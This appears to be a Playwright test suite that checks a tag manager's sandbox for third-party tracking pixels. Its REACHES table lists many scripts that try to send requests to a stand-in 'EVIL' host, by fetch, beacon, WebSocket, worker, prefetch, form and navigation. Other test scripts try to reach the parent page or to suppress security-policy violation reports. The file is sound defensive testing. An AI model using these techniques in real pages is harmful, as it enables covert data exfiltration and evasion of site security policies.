/** What a pixel in the sandbox can't do, whatever it tries, and what it is given instead. */
import { expect } from 'playwright/test';
import { startPartner, type TestCollector, type TestPartner } from '../support/tag/tagHarness.ts';
import { idOf, test } from '../support/tag/tagTest.ts';

test.describe.configure({ mode: 'default' });

const receiptsOf = async (collector: TestCollector, result: unknown) =>
  (await collector.event(idOf(result))).receipts.map(({ outcome, detail = '' }) => `${outcome} ${detail}`.trim());

/** Scripts that each try one way out; EVIL is a server that nobody approved, PARTNER the one that was. */
const REACHES: Record<string, string> = {
  image: 'new Image().src = "EVIL/image";',
  'image set': 'var i = new Image(); i.srcset = "EVIL/set 1x"; document.body.appendChild(i);',
  fetch: 'fetch("EVIL/fetch", { mode: "no-cors" }).catch(function () {});',
  'fetch that outlives the page': 'fetch("EVIL/keep", { mode: "no-cors", keepalive: true }).catch(function () {});',
  request: 'var r = new XMLHttpRequest(); r.open("GET", "EVIL/request"); r.onerror = function () {}; r.send();',
  beacon: 'navigator.sendBeacon("EVIL/beacon", "x");',
  'event source': 'new EventSource("EVIL/events");',
  socket: 'new WebSocket("EVIL/socket".replace("http", "ws"));',
  script:
    'var s = document.createElement("script"); try { s.src = "EVIL/script"; } catch (e) {} document.body.appendChild(s);',
  module: 'import("EVIL/module").catch(function () {});',
  frame: 'var f = document.createElement("iframe"); f.src = "EVIL/frame"; document.body.appendChild(f);',
  style:
    'var s = document.createElement("style"); s.textContent = "@import url(EVIL/style); body { background: url(EVIL/background) }"; document.body.appendChild(s);',
  font: 'new FontFace("f", "url(EVIL/font)").load().catch(function () {});',
  media: 'new Audio("EVIL/media").load();',
  object:
    'var o = document.createElement("object"); try { o.data = "EVIL/object"; } catch (e) {} document.body.appendChild(o);',
  worker: 'try { new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/worker\')"]))); } catch (e) {}',
  prefetch:
    'var l = document.createElement("link"); l.rel = "prefetch"; l.href = "EVIL/prefetch"; document.head.appendChild(l);',
  preconnect:
    'var l = document.createElement("link"); l.rel = "preconnect"; l.href = "EVIL"; document.head.appendChild(l);',
  'rule to prefetch':
    'var s = document.createElement("script"); s.type = "speculationrules"; try { s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["EVIL/rule"] }] }); } catch (e) {} document.head.appendChild(s);',
  navigation: 'location.href = "EVIL/navigation";',
  'navigation by an element':
    'var m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=EVIL/refresh"; document.head.appendChild(m);',
  'navigation by a link':
    'var a = document.createElement("a"); a.href = "EVIL/link"; a.ping = "EVIL/ping"; document.body.appendChild(a); a.click();',
  'navigation of the shell': 'try { parent.location.href = "EVIL/shell"; } catch (e) {}',
  form: 'var f = document.createElement("form"); f.action = "EVIL/form"; document.body.appendChild(f); f.submit();',
  'a frame within':
    'var f = document.createElement("iframe"); f.srcdoc = "<img src=EVIL/within>"; document.body.appendChild(f);',
};

/** Expressions, and what each comes to: a value, or the name of what it throws. SITE is the page's address. */
const TOUCHES: [what: string, expression: string, comesTo: string][] = [
  ['the page’s document', 'top.document.title', 'SecurityError'],
  ['the shell’s document', 'parent.document.title', 'SecurityError'],
  ['the page’s address', 'top.location.href', 'SecurityError'],
  ['the page’s variables', 'top.trl', 'SecurityError'],
  ['the element it runs in', 'frameElement', 'null'],
  ['a window', 'window.open("PARTNER/opened")', 'null'],
  ['the page’s place', 'top.location = "PARTNER/top"', 'SecurityError'],
  ['the page’s place by a link', 'follow("_top")', 'followed'],
  ['a window by a link', 'follow("_blank")', 'followed'],
  ['dialogs', '[alert("sandbox"), confirm("sandbox"), prompt("sandbox")].join()', ',false,'],
  ['databases', 'indexedDB.open("d")', 'SecurityError'],
  ['caches', 'typeof caches', 'SecurityError'],
  ['the page’s cookies', 'document.cookie', ''],
  ['the page’s storage', 'localStorage.length', '0'],
  ['a referrer', 'document.referrer', ''],
  ['peer connections', 'typeof RTCPeerConnection', 'undefined'],
  ['eval', 'eval("1")', 'EvalError'],
  ['the page’s messages', 'top.postMessage("hello", "*"); "sent"', 'sent'],
];

test.describe('a sandboxed pixel', () => {
  let evil: TestPartner;
  test.beforeAll(async () => {
    evil = await startPartner();
  });
  test.afterAll(() => evil.close());
  test.beforeEach(({ partner }) => {
    partner.hits.length = 0;
    partner.bodies.length = 0;
  });

  test('reaches nothing but the hosts it was approved for', async ({
    page,
    put,
    track,
    collector,
    partner,
    context,
  }) => {
    const opened: string[] = [];
    context.on('page', (page) => opened.push(page.url()));
    await page.goto(put('/'));
    const address = page.url();
    const reaches = Object.entries(REACHES).map(([name, script], index) => ({ name, script, id: `reach-${index}` }));
    const results: unknown[] = [];
    for (const { script, id } of reaches) {
      // put together at run time, so that the host isn't found and offered for approval
      const host = `"http:" + "//" + ${JSON.stringify(new URL(evil.url).host.split(':'))}.join(":")`;
      // once the partner has answered: the frame going elsewhere would end a request that is still on its way
      const html = `<script>var evil = ${host}; var seen = new Image(); seen.onload = seen.onerror = function () { ${script.replaceAll('EVIL', '" + evil + "')} }; seen.src = "${partner.url}/${id}";</script>`;
      await collector.addPixel(id, id, html, true);
      results.push(await track(id));
    }
    for (const [index, { name }] of reaches.entries()) {
      await expect.poll(() => receiptsOf(collector, results[index]), name).toHaveLength(1);
    }
    expect(partner.hits.toSorted()).toEqual(reaches.map(({ id }) => `/${id}`).toSorted());
    await expect.poll(() => page.locator('iframe').count()).toBe(0);
    expect(evil.hits).toEqual([]);
    expect(opened).toEqual([]);
    expect(page.url()).toBe(address);
  });

  test('can’t read or write the page, nor open or move windows', async ({
    page,
    put,
    track,
    collector,
    partner,
    context,
  }) => {
    const incidents: string[] = [];
    context.on('page', (page) => incidents.push(`window ${page.url()}`));
    context.on('dialog', (dialog) => incidents.push(`dialog ${dialog.message()}`));
    const address = put('/');
    const tries = TOUCHES.map(([, expression]) => expression.replaceAll('PARTNER', partner.url)).map(
      (expression) => `function () { return ${expression.replace('; ', ', ')}; }`,
    );
    await collector.addPixel(
      'touch',
      'touch',
      `<script>
        function follow(target) {
          var a = document.createElement("a");
          a.href = "${partner.url}/followed"; a.target = target; document.body.appendChild(a); a.click();
          return "followed";
        }
        fetch("${partner.url}/found", { method: "POST", mode: "no-cors", body: JSON.stringify([${tries.join(',')}].map(
          function (attempt) { try { return String(attempt()); } catch (error) { return error.name; } })) });
      </script>`,
      true,
    );
    await page.goto(address);
    await page.evaluate(() => {
      window.got = [];
      addEventListener('message', ({ data }) => window.got.push(data));
    });
    const receipt = await track('touch');
    await expect.poll(() => partner.bodies.length).toBe(1);
    const found = JSON.parse(partner.bodies[0] ?? '') as string[];
    expect(TOUCHES.map(([what], index) => [what, found[index]])).toEqual(
      TOUCHES.map(([what, , comesTo]) => [what, comesTo]),
    );
    await expect.poll(() => receiptsOf(collector, receipt)).toHaveLength(1);
    expect(partner.hits).toEqual(['/found']);
    expect(incidents).toEqual([]);
    expect(page.url()).toBe(address);
    // a message is all that a frame can send to the page it is in
    await expect.poll(() => page.evaluate(() => window.got)).toEqual(['hello']);
  });

  test('is over when it is torn down: timers, requests and farewells', async ({
    page,
    put,
    track,
    collector,
    partner,
  }) => {
    await collector.addPixel(
      'ticks',
      'ticks',
      `<script>
        setInterval(function () { new Image().src = "${partner.url}/tick?" + Math.random(); }, 50);
        addEventListener("pagehide", function () { setTimeout(function () { new Image().src = "${partner.url}/late"; }, 50); });
      </script>`,
      true,
    );
    await page.goto(put('/'));
    await track('ticks');
    await expect.poll(() => partner.hits.length).toBeGreaterThan(3);
    await expect.poll(() => page.locator('iframe').count()).toBe(0);
    // what was on its way when the frame went may still come, nothing after it
    await expect(async () => {
      const ticks = partner.hits.length;
      await page.waitForTimeout(1_000);
      expect(partner.hits.slice(ticks)).toEqual([]);
    }).toPass({ timeout: 20_000 });
    expect(partner.hits).not.toContain('/late');
  });

  test('can’t hide that it was blocked', async ({ page, put, track, collector, partner }) => {
    const { hostname, port } = new URL(evil.url);
    await collector.addPixel(
      'hides',
      'hides',
      `<script>
        parent = { postMessage: function () {} };
        for (var on of [window, document]) for (var capture of [true, false])
          on.addEventListener("securitypolicyviolation", function (event) { event.stopImmediatePropagation(); }, capture);
        new Image().src = "http://" + ["${hostname}", ${port}].join(":") + "/hidden";
        new Image().src = "${partner.url}/seen";
      </script>`,
      true,
    );
    await page.goto(put('/'));
    const result = await track('hides');
    await expect.poll(() => receiptsOf(collector, result)).toEqual([`blocked img-src ${evil.url}/hidden`]);
    await expect.poll(() => partner.hits).toEqual(['/seen']);
    expect(evil.hits).toEqual([]);
  });

  test('gets the page’s address and referrer as data', async ({ page, put, track, collector, partner }) => {
    const html = `<img alt="" src="${partner.url}/page?url={{PAGE_URL}}&ref={{REFERRER}}"><script>new Image().src = "${partner.url}/own?" + encodeURIComponent(location.href + "|" + document.referrer);</script>`;
    await collector.addPixel('page', 'page', html, true);
    const url = `${put('/order')}?a=1&b="'<x>`;
    await page.goto(put('/from'));
    const from = page.url();
    await page.evaluate((url) => location.assign(url), url);
    await page.waitForURL(/order/);
    await track('page');
    await expect.poll(() => partner.hits.length).toBe(2);
    expect(partner.hits.map(decodeURIComponent).sort()).toEqual([
      '/own?about:srcdoc|',
      `/page?url=${page.url()}&ref=${from}`,
    ]);
  });

  for (const coep of ['require-corp', 'credentialless']) {
    test(`runs on a page isolated by Cross-Origin-Embedder-Policy: ${coep}`, async ({
      page,
      put,
      track,
      collector,
      partner,
    }) => {
      await collector.addPixel(coep, coep, `<img alt="" src="${partner.url}/isolated">`, true);
      await page.goto(
        put('/isolated', {
          headers: { 'cross-origin-embedder-policy': coep, 'cross-origin-opener-policy': 'same-origin' },
        }),
      );
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      const result = await track(coep);
      await expect.poll(() => partner.hits).toEqual(['/isolated']);
      await expect.poll(() => receiptsOf(collector, result)).toEqual(['ran']);
    });
  }
});
